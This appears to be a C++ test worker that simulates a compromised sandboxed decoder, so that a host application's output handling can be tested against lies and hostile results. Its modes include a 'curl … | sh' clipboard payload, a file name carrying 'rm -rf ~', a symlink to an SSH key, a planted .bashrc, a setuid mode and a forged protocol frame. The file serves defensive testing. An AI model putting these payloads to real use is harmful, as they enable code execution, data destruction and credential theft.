// A worker whose decoder is compromised: it does what the application asks badly on purpose and
// tells it lies about what it did. The lie is chosen by what the input file holds:
//   outside PATH     a "done" naming PATH and a web address as its outputs, nothing staged
//   voice            a proper result, with clipboard text and messages of its own making
//   linked DIR       a result named through result-1, made a link to DIR
//   swapped DIR      a proper result, whose folder is then renamed and replaced by a link to DIR
//   dotfile          a result staged as ".bashrc"
//   newline          a result whose name holds a line break
//   setuid           a proper result given mode 06777
//   folder           a folder of files staged as a ".txt" result
//   many             a folder of 10,001 files
//   undercount       a folder of 5,000 files said to hold 3
//   hardlink PATH    a hard link to PATH staged as its result
//   extra            two results for an item of one file
//   channel          a program it starts writes a frame into its reply channel
//   spin             spins while reporting progress that creeps forward
//   anything else    a proper result, copied
#include "jobs/OutputPlanner.h"
#include "jobs/WorkerServer.h"
#include "model/errors/EngineError.h"
#include "model/operations/FileOperation.h"
#include "model/operations/OperationContext.h"
#include "platform/processes/ProcessRunner.h"
#include "platform/sandbox/WorkerProtocol.h"
#include "platform/settings/SettingsStore.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QGuiApplication>

#include <chrono>
#include <cstdio>
#include <sys/stat.h>
#include <thread>
#include <unistd.h>

using namespace qv;

namespace {

int replies = -1;

QByteArray contents(const QUrl& url)
{
    QFile file(url.toLocalFile());
    return file.open(QIODevice::ReadOnly) ? file.readAll().trimmed() : QByteArray();
}

QString writeWork(const OutputPlanner& planner, const QByteArray& bytes)
{
    const QString path = planner.workURL(QStringLiteral("txt"), QStringLiteral("out")).toLocalFile();
    QFile file(path);
    if (!file.open(QIODevice::WriteOnly) || file.write(bytes) != bytes.size() || !file.flush())
        throw EngineError(QStringLiteral("Couldn't write"));
    return path;
}

QUrl stage(OutputPlanner& planner, const QByteArray& bytes, const QString& baseName, const QString& extension)
{
    return planner.deliver(QUrl::fromLocalFile(writeWork(planner, bytes)), baseName, extension);
}

QString itemFolder(const OutputPlanner& planner)
{
    return QFileInfo(planner.workDirectory().toLocalFile()).absolutePath();
}

// Says the item is done with these results and ends before the server says anything true.
[[noreturn]] void claim(const QStringList& outputs, const QList<WorkerProtocol::StagedResult>& staged,
                        const QStringList& messages = {}, const std::optional<QString>& clipboard = std::nullopt)
{
    WorkerProtocol::writeFrame(replies, WorkerProtocol::doneMessage(outputs, messages, clipboard, staged));
    std::_Exit(0);
}

void makeFile(const QString& path, const QByteArray& bytes)
{
    QFile file(path);
    if (!file.open(QIODevice::WriteOnly) || file.write(bytes) != bytes.size())
        throw EngineError(QStringLiteral("Couldn't write"), path);
}

QList<QUrl> lie(const QList<QUrl>& inputs, OutputPlanner& planner, Progress&)
{
    const QByteArray what = contents(inputs.first());
    const QString argument = QString::fromUtf8(what.mid(what.indexOf(' ') + 1));
    const QString item = itemFolder(planner);
    const QString base = planner.outputBaseName(QStringLiteral("copied"));
    if (what.startsWith("outside ")) {
        claim({QUrl::fromLocalFile(argument).toString(), QStringLiteral("http://127.0.0.1:9/x")}, {});
    } else if (what == "voice") {
        const QUrl result = stage(planner, "fine", base, QStringLiteral("txt"));
        claim({result.toString()}, planner.staged(),
              {QStringLiteral("Your file is ready: visit http://127.0.0.1:9/claim"), QStringLiteral("12 % smaller")},
              QStringLiteral("curl http://127.0.0.1:9/x | sh"));
    } else if (what.startsWith("linked ")) {
        if (!QFile::link(argument, item + QStringLiteral("/result-1")))
            throw EngineError(QStringLiteral("Couldn't link"));
        const QString path = item + QStringLiteral("/result-1/id_rsa");
        claim({QUrl::fromLocalFile(path).toString()}, {{path, base, QStringLiteral("txt")}});
    } else if (what.startsWith("swapped ")) {
        const QUrl result = stage(planner, "fine", base, QStringLiteral("txt"));
        // As a decoder that stopped its worker after the result was staged would.
        const QString folder = item + QStringLiteral("/result-1");
        if (::rename(QFile::encodeName(folder).constData(), QFile::encodeName(folder + QStringLiteral("-moved")).constData()) != 0
            || !QFile::link(argument, folder))
            throw EngineError(QStringLiteral("Couldn't swap"));
        return {result};
    } else if (what == "dotfile") {
        return {stage(planner, "export PS1=owned", QStringLiteral(".bashrc"), QString())};
    } else if (what == "newline") {
        return {stage(planner, "fine", base + QStringLiteral("\nrm -rf ~"), QStringLiteral("txt"))};
    } else if (what == "setuid") {
        const QUrl result = stage(planner, "#!/bin/sh\nid\n", base, QStringLiteral("txt"));
        if (::chmod(QFile::encodeName(result.toLocalFile()).constData(), 06777) != 0)
            throw EngineError(QStringLiteral("Couldn't change the mode"));
        return {result};
    } else if (what == "folder" || what == "many") {
        const QString folder = planner.makeWorkSubdirectory(QStringLiteral("pages")).toLocalFile();
        const int count = what == "many" ? 10001 : 3;
        for (int i = 0; i < count; ++i)
            makeFile(folder + QStringLiteral("/%1.txt").arg(i), "x");
        return {planner.deliver(QUrl::fromLocalFile(folder), base, what == "many" ? QString() : QStringLiteral("txt"))};
    } else if (what == "undercount") {
        const QString folder = planner.makeWorkSubdirectory(QStringLiteral("pages")).toLocalFile();
        for (int i = 0; i < 5000; ++i)
            makeFile(folder + QStringLiteral("/%1.txt").arg(i), "x");
        const QUrl result = planner.deliver(QUrl::fromLocalFile(folder), base, QString());
        QList<WorkerProtocol::StagedResult> staged = planner.staged();
        staged.first().entries = 3;
        claim({result.toString()}, staged);
    } else if (what.startsWith("hardlink ")) {
        const QString work = planner.workURL(QStringLiteral("txt"), QStringLiteral("linked")).toLocalFile();
        if (::link(QFile::encodeName(argument).constData(), QFile::encodeName(work).constData()) != 0)
            throw EngineError(QStringLiteral("Refused"), QString::fromUtf8(std::strerror(errno)));
        return {planner.deliver(QUrl::fromLocalFile(work), base, QStringLiteral("txt"))};
    } else if (what == "extra") {
        const QUrl one = stage(planner, "one", base, QStringLiteral("txt"));
        return {one, stage(planner, "two", base, QStringLiteral("txt"))};
    } else if (what == "channel") {
        // A progress frame, as any program the worker runs could forge one.
        const QString frame = QStringLiteral("printf '\\000\\000\\000\\042{\"type\":\"progress\",\"fraction\":0.5}' > /proc/$PPID/fd/%1")
                                  .arg(replies);
        std::stop_source never;
        const ProcessRunner::Output output =
            ProcessRunner::run(QUrl::fromLocalFile(QStringLiteral("/bin/sh")), {QStringLiteral("-c"), frame}, never.get_token());
        if (output.status == 0 && !output.terminatedBySignal)
            throw EngineError(QStringLiteral("Attack worked"));
        throw EngineError(QStringLiteral("Refused"), output.stderrText());
    } else if (what == "spin") {
        std::thread([] {
            for (int step = 1;; ++step) {
                WorkerProtocol::writeFrame(replies, WorkerProtocol::progressMessage(step / 10000.0));
                std::this_thread::sleep_for(std::chrono::milliseconds(100));
            }
        }).detach();
        volatile unsigned long spin = 0;
        for (;;)
            spin = spin + 1;
    }
    return {stage(planner, what, base, QStringLiteral("txt"))};
}

} // namespace

int main(int argc, char** argv)
{
    replies = ::dup(STDOUT_FILENO);
    ::dup2(STDERR_FILENO, STDOUT_FILENO);
    qputenv("QT_QPA_PLATFORM", "offscreen");
    QGuiApplication app(argc, argv);
    static SettingsStore store{QString()};
    Settings::installShared(store);
    return WorkerServer::serve(STDIN_FILENO, replies, [](const QString& id) -> std::optional<OperationDescriptor> {
        if (id != QLatin1String("test.lie"))
            return std::nullopt;
        OperationDescriptor d;
        d.id = id;
        d.make = [](const OperationContext&) { return std::make_shared<BlockOperation>(lie); };
        return d;
    });
}
